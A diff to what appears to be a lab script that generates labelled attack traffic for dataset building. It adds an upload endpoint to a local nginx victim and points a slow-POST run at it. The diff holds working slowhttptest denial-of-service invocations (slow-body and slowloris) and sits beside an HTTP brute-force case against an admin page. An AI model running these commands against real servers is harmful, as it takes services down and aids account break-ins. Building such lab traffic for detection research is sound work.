@@ -172,6 +172,9 @@ http {
     server {
         listen $VICTIM:80; root $dir/www; keepalive_timeout 30;
         location /admin/ { auth_basic lab; auth_basic_user_file $dir/htpasswd; }
+        # An upload handler: nginx reads the whole body before it passes it on (to no one), as
+        # an application server would; a static page refuses a POST at once (405).
+        location /upload/ { client_max_body_size 1m; proxy_pass http://127.0.0.1:9; }
     }
 }
 EOF
@@ -354,9 +357,10 @@ run_attack() {
                 "http-get://$VICTIM/admin/" || true
             echo "LABEL: Brute_Force $ATTACKER" ;;
         slow_post)
-            # Slow request bodies (slowhttptest -B): a large Content-Length, sent a few bytes at a time.
+            # Slow request bodies (slowhttptest -B) to the upload handler: a large Content-Length,
+            # sent a few bytes at a time.
             in_ns attacker timeout $((T + 5)) slowhttptest -B -c $((150 * seed)) -r $((50 * seed)) -i 10 -s 8192 \
-                -t POST -u "http://$VICTIM/" -l "$T" -p 3 > /dev/null
+                -t POST -u "http://$VICTIM/upload/" -l "$T" -p 3 > /dev/null
             echo "LABEL: Slow_DoS $ATTACKER" ;;
         slowloris)
             in_ns attacker timeout $((T + 5)) slowhttptest -H -c $((150 * seed)) -r $((50 * seed)) -i 10 \
